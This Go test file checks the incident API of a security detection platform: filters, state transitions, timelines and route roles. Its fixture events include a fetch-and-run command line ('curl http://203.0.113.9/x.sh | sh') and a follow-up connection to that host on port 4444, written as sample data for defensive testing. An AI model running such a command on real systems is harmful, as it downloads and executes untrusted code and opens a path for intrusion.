package api

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vigilsec/vigil/internal/center/incident"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/store"
)

// addIncident raises alerts on agent and puts them into one incident by
// a shared process; it returns the incident.
func (e *env) addIncident(agent string, sev store.Severity, at time.Time, alertIDs ...string) store.Incident {
	e.t.Helper()
	ctx := context.Background()
	var inc store.Incident
	for i, id := range alertIDs {
		ev := event.New("ev-"+id, at.Add(time.Duration(i)*time.Second), "process", "exec")
		ev.Set(event.FieldAgentID, agent)
		ev.Set("process.entity_id", agent+"-p1")
		ev.Set("process.executable", "/usr/bin/curl")
		ev.Set("process.command_line", "curl http://203.0.113.9/x.sh | sh")
		if _, err := e.st.Events().Insert(ctx, []event.Event{ev}); err != nil {
			e.t.Fatal(err)
		}
		a, _, err := e.st.Alerts().Raise(ctx, store.Alert{
			ID: id, AgentID: agent, RuleID: "r-" + id, Title: "Alert " + id, Severity: sev, State: store.AlertNew,
			Techniques: []string{"T1059.004"}, DedupKey: id, Count: 1, CreatedAt: ev.Timestamp(), UpdatedAt: ev.Timestamp(),
			LastSeen: ev.Timestamp(), EventIDs: []string{ev.ID()}, Evidence: map[string]any{"event": map[string]any(ev)},
		})
		if err != nil {
			e.t.Fatal(err)
		}
		inc, _, err = e.st.Incidents().Attach(ctx, store.Join{AlertID: a.ID, Entities: incident.Entities(agent, ev), Title: "Incident on " + agent, At: ev.Timestamp()})
		if err != nil {
			e.t.Fatal(err)
		}
	}
	return inc
}

type incidentList struct {
	Items []store.Incident `json:"items"`
}

func TestIncidents(t *testing.T) {
	e := newEnv(t)
	at := e.clock.Now().Add(-time.Hour)
	i1 := e.addIncident("a1", store.SeverityHigh, at, "al1", "al2")
	i2 := e.addIncident("a2", store.SeverityLow, at.Add(10*time.Minute), "al3")
	if i1.ID == i2.ID || i1.AlertCount != 2 {
		t.Fatalf("incidents %+v %+v", i1, i2)
	}
	idsOf := func(query string) []string {
		t.Helper()
		var page incidentList
		e.call("GET", "/api/v1/incidents?"+query, store.RoleViewer, nil, 200, &page)
		out := []string{}
		for _, inc := range page.Items {
			out = append(out, inc.ID)
		}
		return out
	}
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"", []string{i2.ID, i1.ID}},
		{"severity=high", []string{i1.ID}},
		{"agent_id=a2", []string{i2.ID}},
		{"state=open", []string{i2.ID, i1.ID}},
		{"state=resolved", []string{}},
	} {
		if diff := cmp.Diff(tc.want, idsOf(tc.query)); diff != "" {
			t.Errorf("%q: %s", tc.query, diff)
		}
	}
	for _, q := range []string{"state=closed", "severity=urgent", "agent_id=" + strings.Repeat("a", maxQueryLen+1), "limit=-1"} {
		e.call("GET", "/api/v1/incidents?"+q, store.RoleViewer, nil, 400, nil)
	}
	var got store.Incident
	e.call("GET", "/api/v1/incidents/"+i1.ID, store.RoleViewer, nil, 200, &got)
	if got.Title != "Incident on a1" || got.AlertCount != 2 || got.State != store.IncidentOpen || len(got.Entities) == 0 {
		t.Errorf("incident %+v", got)
	}
	e.call("GET", "/api/v1/incidents/nope", store.RoleViewer, nil, 404, nil)

	// Its alerts, oldest first, page by page; and the same through /alerts.
	var alerts struct {
		Items      []store.Alert `json:"items"`
		NextCursor string        `json:"next_cursor"`
	}
	e.call("GET", "/api/v1/incidents/"+i1.ID+"/alerts?limit=1", store.RoleViewer, nil, 200, &alerts)
	if len(alerts.Items) != 1 || alerts.Items[0].ID != "al1" || alerts.Items[0].IncidentID != i1.ID || alerts.NextCursor == "" {
		t.Fatalf("first page %+v", alerts)
	}
	e.call("GET", "/api/v1/incidents/"+i1.ID+"/alerts?limit=1&cursor="+alerts.NextCursor, store.RoleViewer, nil, 200, &alerts)
	if len(alerts.Items) != 1 || alerts.Items[0].ID != "al2" {
		t.Fatalf("second page %+v", alerts)
	}
	e.call("GET", "/api/v1/incidents/nope/alerts", store.RoleViewer, nil, 404, nil)
	e.call("GET", "/api/v1/alerts?incident_id="+i2.ID, store.RoleViewer, nil, 200, &alerts)
	if len(alerts.Items) != 1 || alerts.Items[0].ID != "al3" {
		t.Errorf("alerts of %s: %+v", i2.ID, alerts.Items)
	}
	e.call("GET", "/api/v1/alerts?incident_id="+strings.Repeat("i", maxQueryLen+1), store.RoleViewer, nil, 400, nil)
}

func TestIncidentStates(t *testing.T) {
	e := newEnv(t)
	inc := e.addIncident("a1", store.SeverityHigh, e.clock.Now().Add(-time.Hour), "al1")
	path := "/api/v1/incidents/" + inc.ID + "/state"
	// Each step from the state the previous one left.
	for i, tc := range []struct {
		body   map[string]any
		status int
		state  store.IncidentState
	}{
		{map[string]any{"state": "open"}, 409, store.IncidentOpen},
		{map[string]any{"state": "investigating", "assignee": "alice", "comment": "on it"}, 200, store.IncidentInvestigating},
		{map[string]any{"assignee": "bob"}, 200, store.IncidentInvestigating},
		{map[string]any{"comment": "the web shell came in through the upload form"}, 200, store.IncidentInvestigating},
		{map[string]any{"state": "investigating"}, 409, store.IncidentInvestigating},
		{map[string]any{"state": "open"}, 200, store.IncidentOpen},
		{map[string]any{"state": "resolved", "comment": "cleaned"}, 200, store.IncidentResolved},
		{map[string]any{"state": "investigating"}, 409, store.IncidentResolved},
		{map[string]any{"state": "false_positive"}, 409, store.IncidentResolved},
		{map[string]any{"state": "open"}, 200, store.IncidentOpen},
		{map[string]any{"state": "false_positive"}, 200, store.IncidentFalsePositive},
		{map[string]any{"state": "open"}, 200, store.IncidentOpen},
	} {
		status, data := e.do("POST", path, e.tokens[store.RoleAnalyst], tc.body)
		if status != tc.status {
			t.Fatalf("step %d %v: %d %s", i, tc.body, status, data)
		}
		var got store.Incident
		e.call("GET", "/api/v1/incidents/"+inc.ID, store.RoleViewer, nil, 200, &got)
		if got.State != tc.state {
			t.Fatalf("step %d: state %s, want %s", i, got.State, tc.state)
		}
	}
	var got store.Incident
	e.call("GET", "/api/v1/incidents/"+inc.ID, store.RoleViewer, nil, 200, &got)
	if got.Assignee != "bob" || len(got.Comments) != 8 || got.Comments[0].Author != "token:analyst-bot" || got.Comments[0].Text != "on it" {
		t.Errorf("after the moves %+v", got)
	}
	entries := e.audit("incident.state")
	if len(entries) != 12 || entries[0].Detail["from"] != "false_positive" || entries[0].Detail["to"] != "open" ||
		entries[10].Detail["assignee"] != "alice" || entries[10].Detail["comment"] != "on it" || entries[11].Result != "error" {
		t.Errorf("audit %+v", entries)
	}
	for name, body := range map[string]any{
		"bad state":     map[string]any{"state": "closed"},
		"nothing":       map[string]any{},
		"bad assignee":  map[string]any{"assignee": "-x"},
		"long comment":  map[string]any{"state": "investigating", "comment": strings.Repeat("c", maxTextLen+1)},
		"unknown field": `{"state":"investigating","severity":"low"}`,
		"wrong type":    `{"state":3}`,
	} {
		if status, data := e.do("POST", path, e.tokens[store.RoleAnalyst], body); status != 400 {
			t.Errorf("%s: %d %s", name, status, data)
		}
	}
	e.call("POST", "/api/v1/incidents/nope/state", store.RoleAnalyst, map[string]any{"state": "investigating"}, 404, nil)
}

func TestIncidentTimeline(t *testing.T) {
	e := newEnv(t)
	at := e.clock.Now().Add(-time.Hour)
	inc := e.addIncident("a1", store.SeverityHigh, at, "al1")
	// A child of the alert's process 45 minutes later, and an unrelated
	// process 2 hours before.
	child := event.New("ev-child", at.Add(45*time.Minute), "network", "connection-attempted")
	child.Set(event.FieldAgentID, "a1")
	child.Set("process.entity_id", "a1-p2")
	child.Set("process.parent.entity_id", "a1-p1")
	child.Set("destination.ip", "203.0.113.9")
	child.Set("destination.port", 4444)
	early := event.New("ev-early", at.Add(-2*time.Hour), "process", "exec")
	early.Set(event.FieldAgentID, "a1")
	early.Set("process.entity_id", "a1-p0")
	if _, err := e.st.Events().Insert(context.Background(), []event.Event{child, early}); err != nil {
		t.Fatal(err)
	}
	entries := func(query string) []string {
		t.Helper()
		var tl incident.Timeline
		e.call("GET", "/api/v1/incidents/"+inc.ID+"/timeline"+query, store.RoleViewer, nil, 200, &tl)
		if tl.Incident.ID != inc.ID || len(tl.Alerts) != 1 {
			t.Fatalf("timeline %+v", tl)
		}
		var ids []string
		for _, en := range tl.Entries {
			ids = append(ids, en.EventID)
		}
		return ids
	}
	if diff := cmp.Diff([]string{"ev-al1"}, entries("")); diff != "" {
		t.Errorf("default span: %s", diff)
	}
	if diff := cmp.Diff([]string{"ev-al1", "ev-child"}, entries("?after=1h")); diff != "" {
		t.Errorf("1h after: %s", diff)
	}
	var tl incident.Timeline
	e.call("GET", "/api/v1/incidents/"+inc.ID+"/timeline?before=3h&after=1h", store.RoleViewer, nil, 200, &tl)
	if !tl.Since.Equal(at.Add(-3*time.Hour)) || len(tl.Peers) != 1 || tl.Peers[0].IP != "203.0.113.9" || len(tl.Processes) != 1 {
		t.Errorf("timeline %+v", tl)
	}
	for _, q := range []string{"before=25h", "after=0s", "before=yesterday", "after=-1h"} {
		status, data := e.do("GET", "/api/v1/incidents/"+inc.ID+"/timeline?"+q, e.tokens[store.RoleViewer], nil)
		if status != 400 || !strings.Contains(string(data), "want a duration from 1s to 24h0m0s") {
			t.Errorf("%s: %d %s", q, status, data)
		}
	}
	e.call("GET", "/api/v1/incidents/nope/timeline", store.RoleViewer, nil, 404, nil)
}

// TestDetectionRouteRoles pins the least role of each route of
// detection, so that a change of the table is a change of this test.
func TestDetectionRouteRoles(t *testing.T) {
	want := map[string]store.Role{
		"GET /api/v1/incidents":               store.RoleViewer,
		"GET /api/v1/incidents/{id}":          store.RoleViewer,
		"POST /api/v1/incidents/{id}/state":   store.RoleAnalyst,
		"GET /api/v1/incidents/{id}/alerts":   store.RoleViewer,
		"GET /api/v1/incidents/{id}/timeline": store.RoleViewer,
		"GET /api/v1/rules":                   store.RoleViewer,
		"GET /api/v1/rules/problems":          store.RoleViewer,
		"POST /api/v1/rules/import":           store.RoleResponder,
		"GET /api/v1/rules/{id}":              store.RoleViewer,
		"GET /api/v1/rules/{id}/source":       store.RoleViewer,
		"PUT /api/v1/rules/{id}/setting":      store.RoleResponder,
		"DELETE /api/v1/rules/{id}/setting":   store.RoleResponder,
		"GET /api/v1/rule-files":              store.RoleViewer,
		"DELETE /api/v1/rule-files/{name...}": store.RoleResponder,
		"GET /api/v1/exceptions":              store.RoleViewer,
		"POST /api/v1/exceptions":             store.RoleAnalyst,
		"GET /api/v1/exceptions/{id}":         store.RoleViewer,
		"PUT /api/v1/exceptions/{id}":         store.RoleAnalyst,
		"DELETE /api/v1/exceptions/{id}":      store.RoleAnalyst,
		"GET /api/v1/alerts":                  store.RoleViewer,
		"POST /api/v1/alerts/{id}/state":      store.RoleAnalyst,
	}
	got := map[string]store.Role{}
	for _, rt := range routeTable() {
		if _, ok := want[rt.pattern()]; ok {
			got[rt.pattern()] = rt.role
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("roles (-want +got):\n%s", diff)
	}
}
